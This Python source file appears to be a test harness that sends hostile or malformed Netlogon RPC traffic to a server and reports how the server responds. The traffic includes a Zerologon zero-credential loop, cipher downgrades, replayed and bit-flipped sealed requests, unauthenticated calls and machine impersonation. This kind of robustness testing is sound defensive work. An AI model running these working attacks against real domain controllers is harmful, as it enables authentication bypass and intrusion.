"""What a hostile or broken Netlogon client does, one attack after the other, on its own sockets and its own PDUs.

    attacks.py JSON                (or `-` to read it from standard input; run it with the venv's Python)

  host, port, domain, account, computer, secret | secret_file     as impacket_client.py; all must be good
  certificate                    PEM file the honest question asks about; without it the question is one byte
  header_signing                 true: propose it (default), false
  other                          NetBIOS name of another machine (OTHERPC)
  tries, zerologon_flags         attempts of `zerologon` (256), and their NegotiateFlags
  attacks                        names; all by default

Prints {"attack": outcome, ...}. An outcome is an object with what the server did:
  {"status": "0x..."}            it answered with this NTSTATUS
  {"fault": "0x...", "closed": true}     it sent this fault, and closed the connection or not
  {"nak": reason}, {"closed": true}, {"silent": true}
`flip` has an outcome for each part of a sealed request; `zerologon` counts outcomes; others name their steps.
"""

import hashlib
import hmac
import os
import socket
import struct
import sys

from Cryptodome.Cipher import AES
from Cryptodome.Hash import MD4

import rcmp

NETLOGON = bytes.fromhex("785634123412cdabef0001234567cffb") + struct.pack("<HH", 1, 0)
NDR = bytes.fromhex("045d888aeb1cc9119fe808002b104860") + struct.pack("<I", 2)
REQUEST, RESPONSE, FAULT, BIND, BIND_ACK, BIND_NAK = 0, 2, 3, 11, 12, 13
FIRST, LAST, HEADER_SIGNING = 0x01, 0x02, 0x04
SIGN, SEAL = 5, 6
NETLOGON_AUTH, CONTEXT = 0x44, 0x01020304
AES_AND_SECURE_RPC = 0x612FFFFF
AES_FLAG, STRONG_KEY_FLAG, RC4_FLAG = 0x01000000, 0x00004000, 0x00000004
TIMEOUT_SECONDS = 10
# How long a server may take to close after a fault, before we say that it did not.
CLOSE_SECONDS = 1


def aes(key, vector):
    return AES.new(key, AES.MODE_CFB, vector)


class Stub:
    """NDR 2.0, little-endian."""

    def __init__(self):
        self.data = bytearray()

    def align(self, size):
        self.data += bytes(-len(self.data) % size)
        return self

    def u16(self, *values):
        self.align(2).data.extend(struct.pack(f"<{len(values)}H", *values))
        return self

    def u32(self, *values):
        self.align(4).data.extend(struct.pack(f"<{len(values)}I", *values))
        return self

    def raw(self, data):
        self.data += data
        return self

    def string(self, text, terminated=True):
        units = len(text) + terminated
        return self.u32(units, 0, units).raw((text + "\0" * terminated).encode("utf-16-le"))

    def unique(self, text):
        return self.u32(0x20000).string(text)


class Connection:
    """One TCP connection with at most one security context."""

    def __init__(self, given, key=None):
        self.given, self.key, self.sequence, self.call, self.level, self.signs_header = given, key, 0, 1, None, False
        self.socket = socket.create_connection((given["host"], given["port"]), timeout=TIMEOUT_SECONDS)
        self.buffer = b""

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.socket.close()

    def receive(self):
        """One PDU, or None when the server closed."""
        try:
            while len(self.buffer) < 16 or len(self.buffer) < struct.unpack_from("<H", self.buffer, 8)[0]:
                more = self.socket.recv(65536)
                if not more:
                    return None
                self.buffer += more
        except ConnectionResetError:
            return None
        size = struct.unpack_from("<H", self.buffer, 8)[0]
        pdu, self.buffer = self.buffer[:size], self.buffer[size:]
        return pdu

    def bind(self, level=None, computer=None):
        """Returns None when the bind was accepted, else the outcome."""
        flags = FIRST | LAST
        body = struct.pack("<HHI", 5840, 5840, 0) + struct.pack("<BBHHBB", 1, 0, 0, 0, 1, 0) + NETLOGON + NDR
        token = b""
        if level:
            self.level = level
            flags |= HEADER_SIGNING * self.given.get("header_signing", True)
            names = self.given["domain"].encode() + b"\0" + (computer or self.given["computer"]).encode() + b"\0"
            token = struct.pack("<II", 0, 3) + names
            body += struct.pack("<BBBBI", NETLOGON_AUTH, level, 0, 0, CONTEXT)
        self.socket.sendall(struct.pack("<BBBBIHHI", 5, 0, BIND, flags, 0x10, 16 + len(body) + len(token), len(token), self.call) + body + token)
        answer = self.receive()
        if answer is None or answer[2] != BIND_ACK:
            return outcome(answer)
        self.signs_header = bool(flags & answer[3] & HEADER_SIGNING)
        return None

    def request(self, opnum, stub, token_length=56):
        """The bytes of one request."""
        self.call += 1
        if not self.level:
            return struct.pack("<BBBBIHHIIHH", 5, 0, REQUEST, FIRST | LAST, 0x10, 24 + len(stub), 0, self.call, len(stub), 0, opnum) + stub
        pad = -len(stub) % 16
        body = bytes(stub) + bytes(pad)
        size = 24 + len(body) + 8 + token_length
        head = struct.pack("<BBBBIHHIIHH", 5, 0, REQUEST, FIRST | LAST, 0x10, size, token_length, self.call, len(stub), 0, opnum)
        trailer = struct.pack("<BBBBI", NETLOGON_AUTH, self.level, pad, 0, CONTEXT)
        sealed = self.level == SEAL
        kind = bytes.fromhex("13001a00ffff0000" if sealed else "1300ffffffff0000")
        number = struct.pack(">II", self.sequence & 0xFFFFFFFF, self.sequence >> 32 | 0x80000000)
        confounder = os.urandom(8) if sealed else b""
        signed = head + body + trailer if self.signs_header else body
        checksum = hmac.digest(self.key, kind + confounder + signed, hashlib.sha256)[:8]
        if sealed:
            stream = aes(bytes(byte ^ 0xF0 for byte in self.key), number * 2)
            confounder, body = stream.encrypt(confounder), stream.encrypt(body)
        token = kind + aes(self.key, checksum * 2).encrypt(number) + checksum + confounder
        self.sequence += 1
        return head + body + trailer + token.ljust(token_length, b"\0")[:token_length]

    def answer(self):
        """What came back: a response's stub after the seal, or an outcome."""
        pdu = self.receive()
        if pdu is None or pdu[2] != RESPONSE:
            done = outcome(pdu)
            if "fault" in done:
                self.socket.settimeout(CLOSE_SECONDS)
                try:
                    done["closed"] = self.receive() is None
                except TimeoutError:
                    done["closed"] = False
            return done
        token_length = struct.unpack_from("<H", pdu, 10)[0]
        if not self.level:
            return pdu[24:]
        token, trailer, body = pdu[-token_length:], pdu[-token_length - 8:-token_length], pdu[24:-token_length - 8]
        number = struct.pack(">II", self.sequence & 0xFFFFFFFF, self.sequence >> 32)
        confounder = b""
        if self.level == SEAL:
            stream = aes(bytes(byte ^ 0xF0 for byte in self.key), number * 2)
            confounder, body = stream.decrypt(token[24:32]), stream.decrypt(body)
        signed = pdu[:24] + body + trailer if self.signs_header else body
        checksum = hmac.digest(self.key, token[:8] + confounder + signed, hashlib.sha256)[:8]
        if checksum != token[16:24] or aes(self.key, checksum * 2).encrypt(number) != token[8:16]:
            return {"bad_reply": True}
        self.sequence += 1
        return body[:len(body) - trailer[2]]

    def call_status(self, opnum, stub):
        self.socket.sendall(self.request(opnum, stub))
        return as_status(self.answer())


def outcome(pdu):
    if pdu is None:
        return {"closed": True}
    if pdu[2] == FAULT:
        return {"fault": rcmp.status(struct.unpack_from("<I", pdu, 24)[0])}
    if pdu[2] == BIND_NAK:
        return {"nak": struct.unpack_from("<H", pdu, 16)[0]}
    return {"packet_type": pdu[2]}


def as_status(answer):
    """The NTSTATUS is the last thing in every Netlogon response."""
    return answer if isinstance(answer, dict) else {"status": rcmp.status(struct.unpack_from("<I", answer, len(answer) - 4)[0])}


# Methods.

def challenge_stub(given, challenge, computer=None):
    return Stub().unique(given["server"]).string(computer or given["computer"]).raw(challenge).data


def authenticate_stub(given, credential, flags, account=None, computer=None):
    stub = Stub().unique(given["server"]).string(account or given["account"]).u16(2).string(computer or given["computer"]).raw(credential)
    return stub.data if flags is None else stub.u32(flags).data


def logon_stub(given, key, computer=None):
    data = rcmp.question_data({"certificate": given["certificate"]}) if "certificate" in given else b"\2"
    domain, package = given["domain"], rcmp.PACKAGE
    stub = Stub().unique(given["server"]).unique(computer or given["computer"]).u16(4, 4).u32(0x20000)
    stub.u16(2 * len(domain), 2 * len(domain)).u32(0x20000, 0, 0, 0).u16(0, 0).u32(0).u16(0, 0).u32(0)
    stub.u16(2 * len(package), 2 * len(package)).u32(0x20000, len(data), 0x20000)
    stub.string(domain, terminated=False).string(package, terminated=False)
    stub.u32(len(data)).raw(aes(key, bytes(16)).encrypt(data)).u16(5).u32(0)
    return stub.data


def exchange_challenge(connection, given, challenge, computer=None):
    connection.socket.sendall(connection.request(4, challenge_stub(given, challenge, computer)))
    answer = connection.answer()
    if isinstance(answer, dict):
        raise ConnectionError(f"NetrServerReqChallenge: {answer}")
    return answer[:8]


def authenticate(connection, stub, opnum=26):
    """Status and flags of NetrServerAuthenticate3 (or, opnum 5, the one without flags)."""
    connection.socket.sendall(connection.request(opnum, stub))
    answer = connection.answer()
    if isinstance(answer, dict):
        return answer
    result = as_status(answer)
    if opnum == 26:
        result["flags"] = rcmp.status(struct.unpack_from("<I", answer, 8)[0])
    return result


def secret_hash(given):
    return MD4.new(given["secret"].encode("utf-16-le")).digest()


def handshake(given, account=None, computer=None):
    """A good handshake: the outcome and the session key."""
    with Connection(given) as connection:
        connection.bind()
        ours = os.urandom(8)
        theirs = exchange_challenge(connection, given, ours, computer)
        key = hmac.digest(secret_hash(given), ours + theirs, hashlib.sha256)[:16]
        credential = aes(key, bytes(16)).encrypt(ours)
        return authenticate(connection, authenticate_stub(given, credential, AES_AND_SECURE_RPC, account, computer)), key


def channel(given, level=SEAL):
    """A connection with a channel of the given level, ready for calls."""
    done, key = handshake(given)
    if done["status"] != "0x00000000":
        raise ConnectionError(f"handshake: {done}")
    connection = Connection(given, key)
    refused = connection.bind(level)
    if refused:
        raise ConnectionError(f"bind: {refused}")
    return connection


# Attacks.

def honest(given):
    """No attack: shows that the question itself is good."""
    with channel(given) as connection:
        return connection.call_status(39, logon_stub(given, connection.key))


def downgrade(given):
    """No AES, RC4 or DES only, and the method that has no flags."""
    done = {}
    for name, flags, opnum in (("no_aes", AES_AND_SECURE_RPC & ~AES_FLAG, 26), ("rc4", RC4_FLAG | STRONG_KEY_FLAG | 0x40000000, 26),
                               ("des", 0, 26), ("authenticate1", None, 5)):
        with Connection(given) as connection:
            connection.bind()
            exchange_challenge(connection, given, os.urandom(8))
            done[name] = authenticate(connection, authenticate_stub(given, os.urandom(8), flags), opnum)
    return done


def zerologon(given):
    """Zero challenge and zero credential, with flags that a good client may have: one in 256 passes if the server does not check."""
    seen = {}
    with Connection(given) as connection:
        connection.bind()
        for _ in range(min(given.get("tries", 256), 4096)):
            exchange_challenge(connection, given, bytes(8))
            done = authenticate(connection, authenticate_stub(given, bytes(8), given.get("zerologon_flags", AES_AND_SECURE_RPC)))
            name = done.get("status") or next(iter(done))
            seen[name] = seen.get(name, 0) + 1
            if "status" not in done:
                break
    return seen


def repeated_challenge(given):
    """One NetrServerReqChallenge, two good NetrServerAuthenticate3."""
    with Connection(given) as connection:
        connection.bind()
        ours = os.urandom(8)
        theirs = exchange_challenge(connection, given, ours)
        key = hmac.digest(secret_hash(given), ours + theirs, hashlib.sha256)[:16]
        stub = authenticate_stub(given, aes(key, bytes(16)).encrypt(ours), AES_AND_SECURE_RPC)
        return {"first": authenticate(connection, stub), "second": authenticate(connection, stub)}


def replay(given):
    """The same sealed request twice on one connection."""
    with channel(given) as connection:
        request = connection.request(39, logon_stub(given, connection.key))
        connection.socket.sendall(request)
        first = as_status(connection.answer())
        connection.socket.sendall(request)
        return {"first": first, "second": as_status(connection.answer())}


def flip(given):
    """One bit of a sealed request, in each part of it; call_id, opnum and alloc_hint are covered by header signing only."""
    done = {}
    for name, place in (("alloc_hint", 16), ("opnum", 22), ("call_id", 12), ("stub_begin", 24), ("stub_end", -85), ("padding", -65),
                        ("auth_pad_length", -62), ("auth_context_id", -60), ("signature_algorithm", -56), ("seal_algorithm", -54),
                        ("token_pad", -52), ("sequence", -48), ("checksum", -40), ("confounder", -32), ("reserved", -24)):
        with channel(given) as connection:
            request = bytearray(connection.request(39, logon_stub(given, connection.key)))
            request[place] ^= 0x01
            connection.socket.sendall(request)
            done[name] = as_status(connection.answer())
    return done


def sign_only(given):
    with channel(given, SIGN) as connection:
        return connection.call_status(39, logon_stub(given, connection.key))


def unauthenticated(given):
    with Connection(given) as connection:
        connection.bind()
        return connection.call_status(39, logon_stub(given, bytes(16)))


def short_token(given):
    """A sealed request whose token lacks the 24 reserved bytes."""
    with channel(given) as connection:
        connection.socket.sendall(connection.request(39, logon_stub(given, connection.key), token_length=32))
        return as_status(connection.answer())


def other_computer(given):
    """Our account under another machine's name: in the handshake, in a bind, in a call."""
    other = given.get("other", "OTHERPC")
    done = {"handshake": handshake(given, computer=other)[0]}
    with channel(given) as connection:
        done["call"] = connection.call_status(39, logon_stub(given, connection.key, computer=other))
    with Connection(given, bytes(16)) as connection:
        done["bind"] = connection.bind(SEAL, "NOBODYPC") or {"status": "0x00000000"}
    return done


def no_challenge(given):
    """NetrServerAuthenticate3 without a challenge before."""
    with Connection(given) as connection:
        connection.bind()
        return authenticate(connection, authenticate_stub(given, os.urandom(8), AES_AND_SECURE_RPC, computer=given["computer"]))


def wrong_secret(given):
    return handshake({**given, "secret": given["secret"] + "!"})[0]


def unknown_account(given):
    return handshake(given, account="NOBODYPC$", computer="NOBODYPC")[0]


ATTACKS = (honest, downgrade, zerologon, repeated_challenge, replay, flip, sign_only, unauthenticated, short_token, other_computer,
           no_challenge, wrong_secret, unknown_account)


def main():
    given = rcmp.arguments(__doc__)
    known = {attack.__name__: attack for attack in ATTACKS}
    done = {}
    for name in given.get("attacks", known):
        try:
            done[name] = known[name](given)
        except TimeoutError:
            done[name] = {"silent": True}
        except (ConnectionError, struct.error) as error:
            done[name] = {"error": str(error)}
    rcmp.finish(done)


if __name__ == "__main__":
    sys.exit(main())
